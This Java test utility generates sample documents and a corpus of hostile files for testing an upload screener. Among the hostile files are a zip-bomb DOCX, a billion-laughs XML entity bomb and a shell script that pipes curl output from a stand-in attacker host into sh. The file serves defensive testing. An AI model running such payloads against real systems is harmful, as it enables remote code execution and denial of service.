package org.gxpbridge.documents;

import java.awt.Rectangle;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFTextBox;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * Real documents and hostile files generated in the test, never checked in: PDF (PDFBox),
 * DOCX/XLSX/PPTX (POI), ODT (a zip written here), RTF, HTML, Markdown, e-mail (.eml text,
 * .msg as an OLE2 file with MAPI streams).
 */
public final class SampleFiles {

	private SampleFiles() {
	}

	public static byte[] pdf(String title, String... paragraphs) {
		try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			doc.getDocumentInformation().setTitle(title);
			PDType1Font font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
			for (String paragraph : paragraphs) {
				PDPage page = new PDPage();
				doc.addPage(page);
				try (PDPageContentStream s = new PDPageContentStream(doc, page)) {
					s.beginText();
					s.setFont(font, 10);
					s.setLeading(13);
					s.newLineAtOffset(50, 740);
					for (String line : wrap(paragraph, 95)) {
						s.showText(line);
						s.newLine();
					}
					s.endText();
				}
			}
			doc.save(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	public static byte[] docx(String title, String... paragraphs) {
		try (XWPFDocument doc = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			doc.getProperties().getCoreProperties().setTitle(title);
			for (String p : paragraphs) {
				doc.createParagraph().createRun().setText(p);
			}
			doc.write(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	public static byte[] xlsx(String... cells) {
		try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			XSSFSheet sheet = book.createSheet("Requirements");
			for (int i = 0; i < cells.length; i++) {
				sheet.createRow(i).createCell(0).setCellValue(cells[i]);
			}
			book.write(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	public static byte[] pptx(String... slides) {
		try (XMLSlideShow show = new XMLSlideShow(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			for (String text : slides) {
				XSLFTextBox box = show.createSlide().createTextBox();
				box.setAnchor(new Rectangle(50, 50, 600, 400));
				box.setText(text);
			}
			show.write(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	/**
	 * An OpenDocument text: the mimetype entry first and stored, then manifest, meta and
	 * content.
	 */
	public static byte[] odt(String title, String... paragraphs) {
		StringBuilder body = new StringBuilder();
		for (String p : paragraphs) {
			body.append("<text:p>").append(xml(p)).append("</text:p>");
		}
		String ns = "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" "
				+ "xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:meta=\"urn:oasis:names:tc:opendocument:xmlns:meta:1.0\" office:version=\"1.2\"";
		return zip(new String[][] { { "mimetype", "application/vnd.oasis.opendocument.text" }, {
				"META-INF/manifest.xml",
				"<?xml version=\"1.0\" encoding=\"UTF-8\"?><manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\">"
						+ "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
						+ "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>"
						+ "<manifest:file-entry manifest:full-path=\"meta.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>" },
				{ "meta.xml",
						"<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-meta " + ns
								+ "><office:meta><dc:title>" + xml(title)
								+ "</dc:title><dc:language>en-GB</dc:language></office:meta></office:document-meta>" },
				{ "content.xml",
						"<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content " + ns
								+ "><office:body><office:text>" + body
								+ "</office:text></office:body></office:document-content>" } });
	}

	public static byte[] rtf(String text) {
		return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0\\fswiss Helvetica;}}\\f0\\pard "
				+ text.replace("\\", "\\\\").replace("{", "\\{").replace("}", "\\}") + "\\par}")
			.getBytes(StandardCharsets.US_ASCII);
	}

	public static byte[] html(String title, String text) {
		return ("<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>" + xml(title)
				+ "</title></head><body><h1>" + xml(title) + "</h1><p>" + xml(text)
				+ "</p><script>alert('x')</script></body></html>")
			.getBytes(StandardCharsets.UTF_8);
	}

	public static byte[] markdown(String title, String text) {
		return ("# " + title + "\n\n" + text + "\n\n- item one\n- item two\n").getBytes(StandardCharsets.UTF_8);
	}

	public static byte[] eml(String subject, String body) {
		return ("From: Quality Manager <qm@gxp-bridge.test>\r\nTo: auditor@gxp-bridge.test\r\nSubject: " + subject
				+ "\r\nDate: Mon, 2 Mar 2026 10:00:00 +0000\r\nMessage-ID: <evidence-1@gxp-bridge.test>\r\nMIME-Version: 1.0\r\n"
				+ "Content-Type: text/plain; charset=UTF-8\r\n\r\n" + body + "\r\n")
			.getBytes(StandardCharsets.UTF_8);
	}

	/**
	 * An Outlook message: an OLE2 compound file with the MAPI property streams Outlook
	 * writes for subject, body and sender (UTF-16LE string properties, type 001F) and a
	 * top-level property stream.
	 */
	public static byte[] msg(String subject, String body) {
		try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			fs.createDocument(new ByteArrayInputStream(utf16(subject)), "__substg1.0_0037001F");
			fs.createDocument(new ByteArrayInputStream(utf16(body)), "__substg1.0_1000001F");
			fs.createDocument(new ByteArrayInputStream(utf16("Quality Manager")), "__substg1.0_0C1A001F");
			fs.createDocument(new ByteArrayInputStream(utf16("IPM.Note")), "__substg1.0_001A001F");
			fs.createDocument(new ByteArrayInputStream(new byte[32]), "__properties_version1.0");
			fs.getRoot().createDirectory("__nameid_version1.0");
			fs.writeFilesystem(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	/**
	 * One file of each supported format holding {@code text}, with the media type
	 * detected from its content.
	 */
	public record Format(String name, byte[] bytes, String mediaType) {
		@Override
		public String toString() {
			return name;
		}
	}

	public static List<Format> formats(String text) {
		return List.of(new Format("sop.pdf", pdf("SOP-001", text), "application/pdf"),
				new Format("sop.docx", docx("SOP-002", text),
						"application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
				new Format("matrix.xlsx", xlsx(text),
						"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
				new Format("training.pptx", pptx(text),
						"application/vnd.openxmlformats-officedocument.presentationml.presentation"),
				new Format("policy.odt", odt("Policy", text), "application/vnd.oasis.opendocument.text"),
				new Format("memo.rtf", rtf(text), "application/rtf"),
				new Format("page.html", html("Page", text), "text/html"),
				// content alone cannot tell Markdown from plain text
				new Format("readme.md", markdown("Readme", text), "text/plain"),
				new Format("notes.txt", text.getBytes(StandardCharsets.UTF_8), "text/plain"),
				new Format("finding.eml", eml("Audit finding", text), "message/rfc822"),
				new Format("finding.msg", msg("Audit finding", text), "application/vnd.ms-outlook"));
	}

	/**
	 * A hostile or broken file, the refusal it must get, and whether screening refuses it
	 * before any parser runs.
	 */
	public record Hostile(String name, byte[] bytes, int status, String code, boolean beforeParsing) {
		@Override
		public String toString() {
			return name + " -> " + code;
		}
	}

	public static List<Hostile> hostileCorpus() {
		byte[] pdf = pdf("SOP", "Some text to make the file long enough to cut in half. ".repeat(20));
		return List.of(new Hostile("empty.pdf", new byte[0], 400, "empty_document", true),
				new Hostile("invoice.pdf", windowsExecutable(), 415, "extension_contradicts_content", true),
				new Hostile("setup.exe", windowsExecutable(), 415, "media_type_not_allowed", true),
				new Hostile("report.pdf", shellScript(), 415, "extension_contradicts_content", true),
				new Hostile("install.sh", shellScript(), 415, "media_type_not_allowed", true),
				new Hostile("sop.docx", pdf, 415, "extension_contradicts_content", true),
				new Hostile("evidence.zip", zipArchive(), 415, "media_type_not_allowed", true),
				new Hostile("cut.pdf", truncated(pdf), 422, "truncated_document", true),
				new Hostile("cut.docx", truncated(docx("t", "x".repeat(5000))), 422, "truncated_document", true),
				new Hostile("deep.xml", deeplyNestedXml(100_000), 422, "xml_nesting_too_deep", true),
				new Hostile("lol.xml", billionLaughsXml(), 422, "xml_entities_refused", true),
				new Hostile("bomb.docx", zipBombDocx(), 422, "suspected_zip_bomb", false));
	}

	// ---- hostile and broken files
	// -------------------------------------------------------------------------------

	/**
	 * A DOCX whose document.xml inflates from about 20 KB to 20 MB: far beyond any sane
	 * compression ratio.
	 */
	public static byte[] zipBombDocx() {
		byte[] normal = docx("bomb", "x");
		String prefix = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>";
		String suffix = "</w:t></w:r></w:p></w:body></w:document>";
		byte[] filler = new byte[20 * 1024 * 1024];
		Arrays.fill(filler, (byte) 'a');
		return replaceEntry(normal, "word/document.xml",
				concat(prefix.getBytes(StandardCharsets.UTF_8), filler, suffix.getBytes(StandardCharsets.UTF_8)));
	}

	public static byte[] zipArchive() {
		return zip(new String[][] { { "readme.txt", "an archive is not a document" } });
	}

	public static byte[] deeplyNestedXml(int depth) {
		return ("<?xml version=\"1.0\"?>" + "<a>".repeat(depth) + "deep" + "</a>".repeat(depth))
			.getBytes(StandardCharsets.UTF_8);
	}

	public static byte[] billionLaughsXml() {
		return ("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
				+ "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>")
			.getBytes(StandardCharsets.UTF_8);
	}

	public static byte[] truncated(byte[] file) {
		return Arrays.copyOf(file, file.length / 2);
	}

	/** The start of a Windows PE executable: MZ header pointing at a PE signature. */
	public static byte[] windowsExecutable() {
		ByteBuffer b = ByteBuffer.allocate(512).order(ByteOrder.LITTLE_ENDIAN);
		b.put((byte) 'M').put((byte) 'Z');
		b.position(0x3c).putInt(0x80);
		b.position(0x80).put("PE\0\0".getBytes(StandardCharsets.US_ASCII)).putShort((short) 0x14c);
		return b.array();
	}

	public static byte[] shellScript() {
		return "#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
	}

	// ---- helpers
	// ------------------------------------------------------------------------------------------------

	private static byte[] utf16(String s) {
		return s.getBytes(StandardCharsets.UTF_16LE);
	}

	private static String xml(String s) {
		return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
	}

	private static List<String> wrap(String text, int width) {
		List<String> lines = new ArrayList<>();
		StringBuilder line = new StringBuilder();
		for (String word : text.split(" ")) {
			if (line.length() + word.length() + 1 > width && !line.isEmpty()) {
				lines.add(line.toString());
				line.setLength(0);
			}
			line.append(line.isEmpty() ? "" : " ").append(word);
		}
		lines.add(line.toString());
		return lines;
	}

	private static byte[] zip(String[][] entries) {
		try (ByteArrayOutputStream bytes = new ByteArrayOutputStream();
				ZipOutputStream zip = new ZipOutputStream(bytes)) {
			for (String[] entry : entries) {
				byte[] data = entry[1].getBytes(StandardCharsets.UTF_8);
				ZipEntry e = new ZipEntry(entry[0]);
				if (entry[0].equals("mimetype")) {
					CRC32 crc = new CRC32();
					crc.update(data);
					e.setMethod(ZipEntry.STORED);
					e.setSize(data.length);
					e.setCrc(crc.getValue());
				}
				zip.putNextEntry(e);
				zip.write(data);
				zip.closeEntry();
			}
			zip.finish();
			return bytes.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	private static byte[] replaceEntry(byte[] zipFile, String name, byte[] content) {
		try (var in = new ZipInputStream(new ByteArrayInputStream(zipFile));
				ByteArrayOutputStream bytes = new ByteArrayOutputStream();
				ZipOutputStream out = new ZipOutputStream(bytes)) {
			out.setLevel(9);
			for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
				out.putNextEntry(new ZipEntry(e.getName()));
				out.write(e.getName().equals(name) ? content : in.readAllBytes());
				out.closeEntry();
			}
			out.finish();
			return bytes.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	private static byte[] concat(byte[]... parts) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (byte[] p : parts) {
			out.writeBytes(p);
		}
		return out.toByteArray();
	}

}
